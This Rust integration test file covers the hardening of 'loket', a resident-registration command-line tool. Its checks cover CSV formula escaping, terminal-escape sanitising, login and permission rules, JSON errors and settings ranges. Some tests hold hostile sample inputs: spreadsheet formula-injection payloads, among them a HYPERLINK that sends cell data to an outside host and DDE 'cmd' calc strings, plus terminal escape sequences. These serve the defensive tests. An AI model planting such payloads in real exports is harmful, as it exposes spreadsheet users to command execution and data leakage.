//! The command line hardened against what independent testing found (issue 14, items 10-14,
//! 18-21): CSV cells that start like formulas, terminal escapes in names, commands that showed
//! personal data without a login, a clerk dumping every resident, the audit filter that logged
//! in as the operator it filtered, failures that printed no JSON, raw internals in messages,
//! settings without ranges, and panics on a closed pipe. Each test drives the real binary.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::{BIN, TODAY, admin, count, loket, loket_json, loket_with};
use loket::db::demo::DemoOptions;
use loket::db::sql::{Connection, params};
use loket::db::{auth, operators};
use serde_json::Value;

/// The demo these tests share: sari (clerk), budi (supervisor), admin; no passwords.
const DEMO: DemoOptions = DemoOptions {
    residents: 300,
    seed: 1,
    today: TODAY,
};

const SECRET: &str = "rahasia-loket-1";

/// A demo database in its own directory, closed, for the binary.
fn demo(dir: &Path) -> PathBuf {
    let path = dir.join("loket.sqlite");
    drop(common::demo_db(&path, DEMO));
    path
}

/// A connection to the database a test made at `db`, on whichever store it lives.
fn open(db: &Path) -> Connection {
    common::store::connect(db)
}

/// An enrolled participant with JKK or JKM flagged: (resident id, NIK, cohort code).
fn covered_participant(conn: &Connection) -> (i64, String, String) {
    conn.query_row(
        "SELECT r.id, r.nik, c.code FROM enrollment e
         JOIN coverage cv ON cv.enrollment_id = e.id
         JOIN resident r ON r.id = e.resident_id
         JOIN cohort c ON c.id = e.cohort_id
         WHERE e.status = 'enrolled' AND (cv.jkk = 1 OR cv.jkm = 1)
         ORDER BY e.id LIMIT 1",
        [],
        |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
    )
    .unwrap()
}

/// Stored around loket's checks, as a hostile import or an old version could have stored it.
fn set_resident_text(conn: &Connection, id: i64, column: &str, value: &str) {
    conn.execute(
        &format!("UPDATE resident SET {column} = ?2 WHERE id = ?1"),
        params![id, value],
    )
    .unwrap();
}

/// Asserts a failure told as one JSON object `{"error": <sentence>, "code": <word>}` on
/// standard output, with a non-zero exit; returns the sentence.
fn json_failure(db: &Path, args: &[&str], env: &[(&str, &str)], code: &str) -> String {
    let (exit, stdout, stderr) = loket_with(db, args, env, "");
    assert_ne!(exit, 0, "{args:?}: {stdout}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(
        lines.len(),
        1,
        "{args:?}: one line of JSON, got {stdout:?} ({stderr})"
    );
    let value: Value = serde_json::from_str(lines[0])
        .unwrap_or_else(|e| panic!("{args:?}: not JSON ({e}): {stdout:?} {stderr}"));
    let object = value.as_object().expect("an object");
    assert_eq!(object.len(), 2, "{args:?}: {value}");
    assert_eq!(object["code"], code, "{args:?}: {value}");
    let error = object["error"].as_str().expect("a sentence").to_string();
    assert!(!error.is_empty() && !error.contains(" { "), "{error}");
    error
}

// --- 10: formula injection ---------------------------------------------------------------------

#[test]
fn csv_cells_that_start_like_formulas_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let conn = open(&db);
    let (id, _, cohort) = covered_participant(&conn);
    let name = "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")";
    let birth_place = "+SUM(1+1)|cmd";
    let address = "-2+3+cmd|' /C calc'!A0";
    let phone = "@SUM(1)";
    set_resident_text(&conn, id, "name", name);
    set_resident_text(&conn, id, "birth_place", birth_place);
    set_resident_text(&conn, id, "address", address);
    set_resident_text(&conn, id, "phone", phone);
    set_resident_text(&conn, id, "rt", "");
    set_resident_text(&conn, id, "rw", "");
    drop(conn);
    let out = dir.path().join("bpjs.csv");
    let (code, _, err) = loket(
        &db,
        &[
            "--as",
            "budi",
            "export",
            "bpjs",
            "--cohort",
            &cohort,
            "--out",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 0, "{err}");
    let mut reader = csv::Reader::from_path(&out).unwrap();
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let mut found = false;
    for record in reader.records() {
        let record = record.unwrap();
        for (i, cell) in record.iter().enumerate() {
            // Text columns (before the money, and KPJ and STATUS_BPJS after it) never start like
            // a formula; the money columns are plain numbers.
            if i < column("PENGHASILAN") || i > column("IURAN_TOTAL") {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: {cell:?}",
                    header[i]
                );
            } else if !cell.is_empty() {
                assert!(cell.parse::<i64>().is_ok(), "{}: {cell:?}", header[i]);
            }
        }
        if record[column("NAMA")] == format!("'{name}") {
            found = true;
            assert_eq!(&record[column("TEMPAT_LAHIR")], format!("'{birth_place}"));
            assert_eq!(&record[column("ALAMAT")], format!("'{address}"));
            assert_eq!(&record[column("NO_HP")], format!("'{phone}"));
        }
    }
    assert!(found, "the hostile participant is in the list, guarded");
}

#[test]
fn the_rejects_file_guards_formula_cells_too() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let input = dir.path().join("penduduk.csv");
    std::fs::write(
        &input,
        "NIK,NO_KK,NAMA,JENIS_KELAMIN,TEMPAT_LAHIR,TANGGAL_LAHIR,ALAMAT\n\
         12345,3603320104900001,=cmd|' /C calc'!A0,L,@SUM(1),01-04-1990,-2+3\n",
    )
    .unwrap();
    let rejects = dir.path().join("ditolak.csv");
    let (_, _, err) = loket(
        &db,
        &[
            "import",
            "residents",
            input.to_str().unwrap(),
            "--rejects",
            rejects.to_str().unwrap(),
        ],
    );
    let mut reader = csv::Reader::from_path(&rejects).unwrap_or_else(|e| panic!("{e}: {err}"));
    let row = reader.records().next().unwrap().unwrap();
    let cells: Vec<&str> = row.iter().collect();
    assert!(cells.contains(&"'=cmd|' /C calc'!A0"), "{cells:?}");
    assert!(cells.contains(&"'@SUM(1)"), "{cells:?}");
    assert!(cells.contains(&"'-2+3"), "{cells:?}");
    assert_eq!(
        loket::db::export::csv_unguarded("'=cmd|' /C calc'!A0"),
        "=cmd|' /C calc'!A0"
    );
    assert_eq!(loket::db::export::csv_unguarded("'Ali"), "'Ali");
}

// --- 11: terminal escapes ----------------------------------------------------------------------

#[test]
fn text_output_escapes_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let conn = open(&db);
    let (id, nik, cohort) = covered_participant(&conn);
    let hostile = "SITI \u{1b}]0;owned\u{7}AMINAH\u{9b}31m\u{7f}";
    set_resident_text(&conn, id, "name", hostile);
    drop(conn);
    let raw = |s: &str| s.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{7f}']);
    let runs: Vec<Vec<&str>> = vec![
        vec!["search", &nik],
        vec!["cohort", "show", &cohort],
        vec!["nik", "36\u{1b}]0;x\u{7}"],
        vec!["search", "--json", "\u{1b}[2J"],
        vec!["audit"],
        vec!["cohort", "show", "\u{1b}[31mNOPE"],
    ];
    for args in &runs {
        let (_, stdout, stderr) = loket(&db, args);
        assert!(
            !raw(&stdout) && !raw(&stderr),
            "{args:?}: {stdout:?} {stderr:?}"
        );
    }
    let (_, stdout, _) = loket(&db, &["search", &nik]);
    assert!(stdout.contains("SITI \\x1b]0;owned\\x07AMINAH"), "{stdout}");
    let (_, stdout, _) = loket(&db, &["audit"]);
    assert!(
        stdout.contains("\\x1b[2J"),
        "the logged query, escaped: {stdout}"
    );
    // JSON keeps the value (serde escapes it) and escapes DEL and C1 as well.
    let (_, stdout, _) = loket(&db, &["search", "--json", &nik]);
    assert!(!raw(&stdout), "{stdout:?}");
    let value: Value = serde_json::from_str(stdout.trim()).unwrap();
    assert_eq!(value[0]["name"], hostile);
}

// --- 12: log in before personal data ----------------------------------------------------------

#[test]
fn cohort_list_and_show_log_in_first() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let conn = open(&db);
    let (_, _, cohort) = covered_participant(&conn);
    let admin = admin(&conn);
    operators::set_active(&conn, &admin, "sari", false).unwrap();
    auth::set_password(&conn, &admin, "budi", SECRET).unwrap();
    drop(conn);
    for command in [vec!["cohort", "list"], vec!["cohort", "show", &cohort]] {
        for (who, env) in [
            ("nobody", vec![]),
            ("sari", vec![]),
            ("budi", vec![("LOKET_PASSWORD", "salah-sandi-1")]),
            ("budi", vec![]),
        ] {
            let args: Vec<&str> = ["--as", who].into_iter().chain(command.clone()).collect();
            let (code, stdout, stderr) = loket_with(&db, &args, &env, "");
            assert_ne!(code, 0, "{args:?}");
            assert!(stdout.is_empty(), "{args:?} printed {stdout}");
            assert!(stderr.starts_with("loket: "), "{stderr}");
        }
        let args: Vec<&str> = ["--as", "budi"]
            .into_iter()
            .chain(command.clone())
            .collect();
        let (code, stdout, _) = loket_with(&db, &args, &[("LOKET_PASSWORD", SECRET)], "");
        assert_eq!(code, 0);
        assert!(stdout.contains(&cohort), "{stdout}");
    }
}

// --- 13: more than a page needs the export permission -----------------------------------------

#[test]
fn more_than_one_page_of_residents_needs_the_export_permission() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let audited = |db: &Path| {
        count(
            &open(db),
            "SELECT count(*) FROM audit_log WHERE action = 'search_export'",
        )
    };
    for args in [
        vec![
            "--as", "sari", "search", "--json", "--limit", "1000000", "3603",
        ],
        vec!["--as", "sari", "search", "--limit", "51", "3603"],
    ] {
        let (code, stdout, stderr) = loket(&db, &args);
        assert_ne!(code, 0, "{args:?}");
        assert!(!stdout.contains("3603"), "{args:?} printed residents");
        let told = if args.contains(&"--json") {
            serde_json::from_str::<Value>(stdout.trim()).unwrap()["error"]
                .as_str()
                .unwrap()
                .to_string()
        } else {
            stderr
        };
        assert!(told.contains("mengekspor data"), "{told}");
    }
    assert_eq!(audited(&db), 0);
    // One page is the desk's: a clerk gets it.
    let (code, hits) = loket_json(&db, &["--as", "sari", "search", "--json", "3603"]);
    assert_eq!(code, 0);
    assert_eq!(hits.as_array().unwrap().len(), 50);
    assert_eq!(audited(&db), 1);
    // A supervisor exports, and it is recorded, in text as in JSON.
    let (code, hits) = loket_json(
        &db,
        &[
            "--as", "budi", "search", "--json", "--limit", "1000", "3603",
        ],
    );
    assert_eq!(code, 0);
    assert!(hits.as_array().unwrap().len() > 50);
    let (code, stdout, _) = loket(&db, &["--as", "budi", "search", "--limit", "200", "3603"]);
    assert_eq!(code, 0);
    assert!(stdout.lines().count() > 51);
    assert_eq!(audited(&db), 3);
}

// --- 14: the audit filter ------------------------------------------------------------------------

#[test]
fn audit_operator_filters_rows_and_acts_as_the_caller() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    // Rows by sari and by admin.
    assert_eq!(
        loket(&db, &["--as", "sari", "search", "--json", "3603"]).0,
        0
    );
    let conn = open(&db);
    auth::set_password(&conn, &admin(&conn), "admin", SECRET).unwrap();
    drop(conn);
    let names = |rows: &Value| -> Vec<String> {
        rows.as_array()
            .unwrap()
            .iter()
            .map(|r| r["operator_name"].as_str().unwrap().to_string())
            .collect()
    };
    // Filtering by admin neither asks admin's password nor logs in as admin.
    let (code, rows) = loket_json(
        &db,
        &[
            "--as",
            "budi",
            "audit",
            "--json",
            "--operator",
            "admin",
            "--limit",
            "1000",
        ],
    );
    assert_eq!(code, 0, "{rows}");
    let admin_rows = names(&rows);
    assert!(!admin_rows.is_empty());
    assert!(admin_rows.iter().all(|n| n == "admin"), "{admin_rows:?}");
    let failed_logins = count(
        &open(&db),
        "SELECT count(*) FROM audit_log WHERE action IN ('login_failed', 'login') AND operator_name = 'admin'",
    );
    assert_eq!(failed_logins, 0);
    // Without a filter: everyone's rows.
    let (code, rows) = loket_json(&db, &["--as", "budi", "audit", "--json", "--limit", "1000"]);
    assert_eq!(code, 0);
    let all = names(&rows);
    for who in ["sari", "admin"] {
        assert!(all.iter().any(|n| n == who), "{who} in {all:?}");
    }
    let (code, rows) = loket_json(
        &db,
        &["--as", "budi", "audit", "--json", "--operator", "sari"],
    );
    assert_eq!(code, 0);
    assert!(names(&rows).iter().all(|n| n == "sari"));
    // Who may read the trail is unchanged: not a clerk.
    json_failure(
        &db,
        &["--as", "sari", "audit", "--json"],
        &[],
        "access_denied",
    );
}

// --- 18: failures as JSON ----------------------------------------------------------------------

#[test]
fn every_json_command_fails_as_one_json_object() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let conn = open(&db);
    let (_, nik, cohort) = covered_participant(&conn);
    drop(conn);
    let folder = dir.path().to_str().unwrap().to_string();
    let missing_db = dir.path().join("tidak-ada.sqlite");
    let cases: Vec<(Vec<&str>, &str)> = vec![
        (vec!["cohort", "show", "NOPE", "--json"], "cohort_not_found"),
        (
            vec!["cohort", "list", "--status", "x", "--json"],
            "bad_argument",
        ),
        (vec!["cohort", "open", "NOPE", "--json"], "cohort_not_found"),
        (
            vec!["cohort", "dates", &cohort, "--start", "kemarin", "--json"],
            "bad_argument",
        ),
        // An unknown name is asked for a password like any other: names are not revealed.
        (
            vec!["--as", "nobody", "cohort", "list", "--json"],
            "password_required",
        ),
        (
            vec!["--as", "sari", "search", "--json", "--limit", "999", "36"],
            "access_denied",
        ),
        (
            vec!["audit", "--json", "--since", "kemarin"],
            "bad_argument",
        ),
        (vec!["audit", "--json", "--entity", "x"], "bad_argument"),
        (
            vec!["--as", "sari", "user", "list", "--json"],
            "access_denied",
        ),
        (
            vec![
                "withdraw",
                "--json",
                "--nik",
                "3603320104900009",
                "--cohort",
                &cohort,
            ],
            "resident_not_found",
        ),
        (
            vec!["enroll", "--json", "--nik", &nik, "--cohort", "NOPE"],
            "cohort_not_found",
        ),
        (vec!["setting", "get", "x.y", "--json"], "bad_argument"),
        (
            vec!["setting", "set", "bpjs.jkm_monthly", "-5", "--json"],
            "bad_setting",
        ),
        (
            vec!["backup", "--json", "--out", "/tidak-ada/sub/b.sqlite"],
            "bad_argument",
        ),
        (
            vec!["import", "residents", &folder, "--json"],
            "bad_argument",
        ),
    ];
    for (args, code) in &cases {
        json_failure(&db, args, &[], code);
    }
    let sentence = json_failure(
        &db,
        &["cohort", "show", "NOPE", "--json", "--lang", "en"],
        &[],
        "cohort_not_found",
    );
    assert!(sentence.contains("Not found"), "{sentence}");
    json_failure(&missing_db, &["check", "--json"], &[], "database_not_found");
    json_failure(
        &missing_db,
        &["search", "--json", "x"],
        &[],
        "database_not_found",
    );
    // A database locked by another writer: told, as JSON, once the wait is over.
    let holder = open(&db);
    holder
        .execute_batch(match holder.as_sqlite() {
            Some(_) => "BEGIN EXCLUSIVE",
            // PostgreSQL locks tables and rows, not the database: the one the command changes.
            None => "BEGIN; LOCK TABLE cohort IN EXCLUSIVE MODE",
        })
        .unwrap();
    json_failure(
        &db,
        &["cohort", "cancel", &cohort, "--reason", "uji", "--json"],
        &[],
        "database_locked",
    );
    holder.execute_batch("ROLLBACK").unwrap();
    // enroll keeps the words it always had.
    let (code, value) = loket_json(
        &db,
        &[
            "enroll",
            "--json",
            "--nik",
            "3603320104900009",
            "--cohort",
            &cohort,
        ],
    );
    assert_eq!(
        (code, value["code"].as_str()),
        (1, Some("resident_not_found"))
    );
}

// --- 19: messages without internals -----------------------------------------------------------

#[test]
fn messages_name_the_problem_not_the_internals() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let conn = open(&db);
    let (_, _, cohort) = covered_participant(&conn);
    let (course, venue): (String, String) = conn
        .query_row(
            "SELECT co.code, v.code FROM cohort c JOIN course co ON co.id = c.course_id
             JOIN venue v ON v.id = c.venue_id WHERE c.code = ?1",
            [&cohort],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    drop(conn);
    let create = |code: &str, extra: &[&str]| {
        let mut args = vec![
            "--as",
            "budi",
            "cohort",
            "create",
            "--code",
            code,
            "--course",
            &course,
            "--venue",
            &venue,
            "--start",
            "2027-03-01",
        ];
        args.extend_from_slice(extra);
        loket(&db, &args)
    };
    let (code, _, err) = create(&cohort, &[]);
    assert_ne!(code, 0);
    assert!(err.contains("Kode angkatan itu sudah dipakai"), "{err}");
    assert!(!err.contains("Unique"), "{err}");
    let (code, _, err) = create("2027-BARU-01", &["--instructor", "999"]);
    assert_ne!(code, 0);
    assert!(err.contains("instruktur #999"), "{err}");
    assert!(!err.contains("ForeignKey"), "{err}");
    // restore of a folder: no advice to create a database
    let folder = dir.path().to_str().unwrap();
    let (code, _, err) = loket(&db, &["restore", folder]);
    assert_ne!(code, 0);
    assert!(!err.contains("loket init"), "{err}");
    // import of a folder: says it is a folder
    let (code, _, err) = loket(&db, &["import", "residents", folder]);
    assert_ne!(code, 0);
    assert!(err.contains("folder") && !err.contains("''"), "{err}");
    // user management is the admin's: a supervisor is told to ask one
    let (code, _, err) = loket(&db, &["--as", "budi", "user", "disable", "sari"]);
    assert_ne!(code, 0);
    assert!(err.contains("Minta admin"), "{err}");
    let (_, _, err) = loket(
        &db,
        &["--as", "budi", "user", "disable", "sari", "--lang", "en"],
    );
    assert!(err.contains("Ask an admin"), "{err}");
    // a backup into a folder that does not exist is refused, and nothing is created
    let out = dir.path().join("tidak-ada").join("b.sqlite");
    let (code, _, err) = loket(&db, &["backup", "--out", out.to_str().unwrap()]);
    assert_ne!(code, 0);
    assert!(err.contains("tidak ada"), "{err}");
    assert!(!out.parent().unwrap().exists());
    // --limit 0 is no rows
    let (code, rows) = loket_json(&db, &["audit", "--json", "--limit", "0"]);
    assert_eq!(code, 0);
    assert_eq!(rows, Value::Array(vec![]));
}

// --- 20: settings with a type and a range -------------------------------------------------------

#[test]
fn settings_are_typed_ranged_and_set_headless() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let get = |key: &str| loket(&db, &["--as", "budi", "setting", "get", key]).1;
    assert_eq!(get("bpjs.jkm_monthly").trim(), "6800");
    for (key, value, says) in [
        ("bpjs.jkm_monthly", "-5", "angka bulat 0 s.d."),
        (
            "attendance.min_rate_percent",
            "250",
            "angka bulat 0 s.d. 100",
        ),
        ("bpjs.jkm_monthly", "enam ribu", "angka bulat"),
        ("ui.lang", "jv", "id atau en"),
    ] {
        let (code, stdout, err) = loket(&db, &["--as", "budi", "setting", "set", key, value]);
        assert_ne!(code, 0, "{key} = {value}: {stdout}");
        assert!(
            err.contains(says) && !err.contains("Tidak ditemukan"),
            "{err}"
        );
    }
    assert_eq!(get("bpjs.jkm_monthly").trim(), "6800");
    let (code, _, err) = loket(
        &db,
        &["--as", "sari", "setting", "set", "bpjs.jkm_monthly", "7000"],
    );
    assert_ne!(code, 0);
    assert!(err.contains("sari"), "{err}");
    let (code, out, err) = loket(
        &db,
        &["--as", "budi", "setting", "set", "bpjs.jkm_monthly", "7000"],
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("6800") && out.contains("7000"), "{out}");
    assert_eq!(get("bpjs.jkm_monthly").trim(), "7000");
    let (before, after): (String, String) = open(&db)
        .query_row(
            "SELECT before_json, after_json FROM audit_log WHERE entity = 'setting'
             AND entity_id = 'bpjs.jkm_monthly' AND operator_name = 'budi'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(
        (before.as_str(), after.as_str()),
        (r#"{"value":"6800"}"#, r#"{"value":"7000"}"#)
    );
    let (code, list) = loket_json(&db, &["--as", "budi", "setting", "list", "--json"]);
    assert_eq!(code, 0);
    let jkm = list
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["key"] == "bpjs.jkm_monthly")
        .unwrap();
    assert_eq!(jkm["value"], "7000");
    assert_eq!(
        (jkm["kind"].as_str(), jkm["min"].as_i64()),
        (Some("number"), Some(0))
    );
    let (code, text, _) = loket(&db, &["--as", "budi", "setting", "list"]);
    assert_eq!(code, 0);
    assert!(text.contains("attendance.min_rate_percent"), "{text}");
    // A value stored around these checks stops the export instead of billing it.
    open(&db)
        .execute(
            "UPDATE setting SET value = '-5' WHERE key = 'bpjs.jkm_monthly'",
            [],
        )
        .unwrap();
    let (_, _, cohort) = covered_participant(&open(&db));
    let out = dir.path().join("b.csv");
    let (code, _, err) = loket(
        &db,
        &[
            "--as",
            "budi",
            "export",
            "bpjs",
            "--cohort",
            &cohort,
            "--out",
            out.to_str().unwrap(),
        ],
    );
    assert_ne!(code, 0);
    assert!(err.contains("bpjs.jkm_monthly"), "{err}");
}

#[test]
fn the_settings_screen_refuses_out_of_range_values() {
    use crossterm::event::KeyCode;
    use loket::ui::app::App;
    use loket::ui::screens::reference::Reference;
    use loket::ui::text::Lang;
    let dir = tempfile::tempdir().unwrap();
    let conn = common::demo_db(&dir.path().join("s.sqlite"), DEMO);
    let budi = common::actor(&conn, "budi");
    let ctx = common::ctx(conn, budi, Lang::Id, TODAY).0;
    let screen = Reference::new(&ctx).unwrap();
    let mut app = App::new(ctx, Box::new(screen));
    common::press(&mut app, KeyCode::Tab); // settings: income, JKK rate, JKM...
    common::press(&mut app, KeyCode::Down);
    common::press(&mut app, KeyCode::Down);
    for typed in ["-5", "enam"] {
        common::press(&mut app, KeyCode::Enter);
        common::ctrl(&mut app, 'u');
        common::type_text(&mut app, typed);
        common::press(&mut app, KeyCode::Enter);
        let screen = common::draw(&mut app);
        assert!(screen.contains("angka bulat 0 s.d."), "{screen}");
        assert!(!screen.contains("Tidak ditemukan"), "{screen}");
        common::press(&mut app, KeyCode::Esc);
    }
    let stored =
        loket::db::settings::get(&app.ctx.conn, loket::db::settings::SettingKey::JkmMonthly);
    assert_eq!(stored.unwrap(), "6800");
}

// --- 21: a closed pipe -------------------------------------------------------------------------

/// `loket --db DB ARGS...` whose standard output is closed before it writes (as `| head -1`
/// leaves it once head has its line): (exit code, standard error).
fn with_stdout_closed(db: &Path, args: &[&str]) -> (i32, String) {
    let mut child = Command::new(BIN)
        .arg("--db")
        .arg(common::store::arg(db))
        .args(args)
        .env_remove("LOKET_LANG")
        .env_remove("LOKET_PASSWORD")
        .env_remove("LOKET_DB")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn a_closed_stdout_ends_quietly_without_a_panic() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    for args in [
        vec!["nik", "3603320104900001", "3603324404900002"],
        vec!["search", "--json", "3603"],
        vec!["search", "3603"],
        vec!["audit"],
        vec!["cohort", "list"],
        vec!["cohort", "list", "--json"],
        vec!["user", "list"],
        vec!["setting", "list"],
        vec!["cohort", "show", "NOPE", "--json"],
    ] {
        let (code, stderr) = with_stdout_closed(&db, &args);
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert_eq!(code, 0, "{args:?}: {stderr}");
    }
}

// --- --db naming a PostgreSQL server --------------------------------------------------------

/// `--db postgres://...` (or a libpq string naming a host) talks to that server and never
/// becomes a file called `postgres:/...` (what `init` made of it before: "Database baru dibuat
/// ... postgres://..." and a directory `postgres:`). A server that cannot be reached is named
/// with what to check; the terminal UI, which keeps drafts beside a file, says it needs one.
#[test]
fn a_postgres_url_as_db_names_the_server_and_creates_no_file() {
    let dir = tempfile::tempdir().unwrap();
    // Port 1: nothing listens there, so the connection is refused at once.
    for spec in [
        "postgres://loket@127.0.0.1:1/loket",
        "postgresql://loket@127.0.0.1:1/loket?sslmode=require",
        "host=127.0.0.1 port=1 dbname=loket user=loket",
    ] {
        for args in [&["init"][..], &["search", "siti"], &["backup"]] {
            let out = Command::new(BIN)
                .current_dir(dir.path())
                .args(["--db", spec])
                .args(args)
                .env("LOKET_LANG", "id")
                .stdin(Stdio::null())
                .output()
                .unwrap();
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(!out.status.success(), "{spec} {args:?}");
            assert!(
                stderr.contains(
                    "Tidak dapat tersambung ke server PostgreSQL postgres://loket@127.0.0.1:1/loket"
                ),
                "{spec} {args:?}: {stderr}"
            );
            assert!(stderr.contains("PGPASSWORD"), "{spec} {args:?}: {stderr}");
        }
        let tui = Command::new(BIN)
            .current_dir(dir.path())
            .args(["--db", spec])
            .env("LOKET_LANG", "id")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        // The TUI works on a server too: this one cannot be reached, and it says so before
        // the terminal is taken over.
        let stderr = String::from_utf8_lossy(&tui.stderr);
        assert!(!tui.status.success(), "{spec}");
        assert!(
            stderr.contains("Tidak dapat tersambung ke server PostgreSQL"),
            "{spec}: {stderr}"
        );
        let error = json_failure(
            Path::new(spec),
            &["search", "--json", "siti"],
            &[],
            "server_unreachable",
        );
        assert!(error.contains("PostgreSQL"), "{error}");
    }
    assert_eq!(
        std::fs::read_dir(dir.path()).unwrap().count(),
        0,
        "nothing was created"
    );
    // a file whose name only looks like key=value stays a file
    let odd = dir.path().join("kantor=kemiri.sqlite");
    let (exit, _, stderr) = loket(&odd, &["init"]);
    assert_eq!(exit, 0, "{stderr}");
    assert!(odd.exists());
}
